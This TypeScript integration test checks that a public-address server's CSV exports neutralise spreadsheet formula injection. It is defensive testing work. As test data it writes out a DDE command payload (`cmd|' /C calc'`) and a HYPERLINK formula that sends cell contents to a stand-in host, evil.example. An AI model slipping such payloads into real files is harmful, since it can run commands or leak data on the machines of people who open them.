/**
 * CSV exports on a real server cannot carry a spreadsheet formula: a site
 * publishes an as-run receipt whose detail is `-2+3+cmd|' /C calc'!A0` with
 * nothing but its own MQTT credential, a bulletin is titled `=HYPERLINK(…)`
 * and a site is named with a leading tab; the as-run log and an alert's
 * delivery report, downloaded as CSV over HTTP, show each as text (a quote
 * mark first) while the server's own negative number stays a number.
 */
import path from 'node:path';
import mqtt, { type MqttClient } from 'mqtt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { siteTopic, type AlertStatusEvent, type AsRunEvent, type PlaylistMessage } from '../../protocol/index.ts';
import { parseCsvRecords } from '../../server/registry/csv.ts';
import { startsWithFormulaTrigger } from '../../server/csv.ts';
import { importLaoCai2025, startTestServer, tempDir, waitFor, type TestServer } from '../helpers/server.ts';
import { ffmpeg, uploadFile } from '../helpers/media.ts';
import { haveTools } from '../helpers/require-tool.ts';

const canRun = haveTools('ffmpeg');
const H = 3_600_000;
const DETAIL = "-2+3+cmd|' /C calc'!A0";
const TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")';
const SITE_NAME = '\tCụm loa thôn 3 Hợp Thành';

let t: TestServer;
let client: MqttClient | undefined;
let site: { siteId: string; secret: string };
let mediaId: string;

beforeAll(async () => {
  if (!canRun) return;
  t = await startTestServer();
  await importLaoCai2025(t);
  const wav = path.join(tempDir('loanet-csv-'), 'tone.wav');
  ffmpeg('-f', 'lavfi', '-i', 'sine=frequency=440:duration=2', '-ac', '1', wav);
  const up = await uploadFile(t, wav, { title: 'Âm thử' });
  expect(up.status, JSON.stringify(up.body)).toBe(201);
  mediaId = up.body.id;
  const s = await t.api('POST', '/api/sites', { name: SITE_NAME, kind: 'cluster', area: '02680' });
  expect(s.status, JSON.stringify(s.body)).toBe(201);
  site = s.body.credential;
}, 120_000);

afterAll(async () => {
  await client?.endAsync().catch(() => undefined);
  await t?.stop();
});

/** The CSV body of an export, checked for its BOM and parsed (RFC 4180). */
async function csvOf(url: string): Promise<string[][]> {
  const res = await fetch(`${t.baseUrl}${url}`, { headers: { authorization: `Bearer ${t.token}`, accept: 'text/csv' } });
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
  const text = await res.text();
  return parseCsvRecords(text);
}

function noCellIsAFormula(records: string[][]): void {
  for (const r of records) for (const c of r) expect(startsWithFormulaTrigger(c), JSON.stringify(c)).toBe(false);
}

describe.skipIf(!canRun)('CSV exports neutralise what users and sites wrote', () => {
  it('the as-run log: a formula in a title, a tab before a site name and a formula a site published as its detail are text', async () => {
    const at = Date.now() + H;
    const item = await t.api('POST', '/api/schedule/items', { title: TITLE, mediaId, targets: { sites: [site.siteId] }, start: { at } });
    expect(item.status, JSON.stringify(item.body)).toBe(201);
    expect((await t.api('POST', `/api/schedule/items/${item.body.id}/approve`)).status).toBe(200);

    // The site, with its own credential only, takes its playlist and reports a receipt carrying the payload.
    client = await mqtt.connectAsync(t.mqttUrl, { clientId: site.siteId, username: site.siteId, password: site.secret, protocolVersion: 4, reconnectPeriod: 0 });
    const playlists: PlaylistMessage[] = [];
    client.on('message', (topic, payload) => {
      if (topic === siteTopic(site.siteId, 'playlist') && payload.length > 0) playlists.push(JSON.parse(payload.toString('utf8')) as PlaylistMessage);
    });
    await client.subscribeAsync(siteTopic(site.siteId, 'playlist'), { qos: 1 });
    const entry = (await waitFor('the playlist with the item', () => playlists.flatMap((p) => p.entries).find((e) => e.itemId === item.body.id)))!;
    const receipt: AsRunEvent = {
      v: 1,
      siteId: site.siteId,
      at: Date.now(),
      type: 'as_run',
      entryId: entry.id,
      kind: 'bulletin',
      itemId: item.body.id,
      mediaId,
      scheduledAt: entry.startAt,
      outcome: 'skipped',
      reason: 'error',
      detail: DETAIL,
    };
    const before = t.server.ctx.asRun.stats().stored;
    await client.publishAsync(siteTopic(site.siteId, 'event'), JSON.stringify(receipt), { qos: 1 });
    await waitFor('the receipt stored', () => t.server.ctx.asRun.stats().stored > before);

    const records = await csvOf(`/api/as-run?area=02680&from=${at - H}&to=${at + H}&format=csv`);
    const header = records[0]!;
    const row = records.find((r) => r.includes(item.body.id))!;
    expect(row, "the item's row").toBeDefined();
    const col = (en: string) => row[header.findIndex((h) => h.endsWith(`/ ${en}`))]!;
    expect(col('Bulletin')).toBe(`'${TITLE}`);
    expect(col('Site')).toBe(`'${SITE_NAME}`);
    expect(col('Detail')).toBe(`'${DETAIL}`);
    noCellIsAFormula(records);
  });

  it("an alert's delivery report: the site name is text, the microphone's negative level stays a number", async () => {
    const r = await t.api('POST', '/api/alerts', { areas: ['02680'], message: { mediaId }, title: TITLE, attention: 'chime', validForMinutes: 30 });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    const id: string = r.body.id;
    const ev: AlertStatusEvent = {
      v: 1,
      siteId: site.siteId,
      type: 'alert_status',
      alertId: id,
      revision: 1,
      status: 'playing',
      repeat: 0,
      at: Date.now(),
      firstSoundAt: Date.now(),
      levelDb: -21.5,
    };
    await client!.publishAsync(siteTopic(site.siteId, 'event'), JSON.stringify(ev), { qos: 1 });
    await waitFor('the site playing', async () => (await t.api('GET', `/api/alerts/${id}`)).body.delivery.counts.playing === 1);

    const records = await csvOf(`/api/alerts/${id}/report?format=csv`);
    const row = records.find((rec) => rec[0] === site.siteId)!;
    expect(row[1]).toBe(`'${SITE_NAME}`);
    expect(row[records[0]!.indexOf('Mức âm micro (dBFS)')]).toBe('-21.5');
    noCellIsAFormula(records.map((rec) => rec.filter((c) => c !== '-21.5')));
  });
});
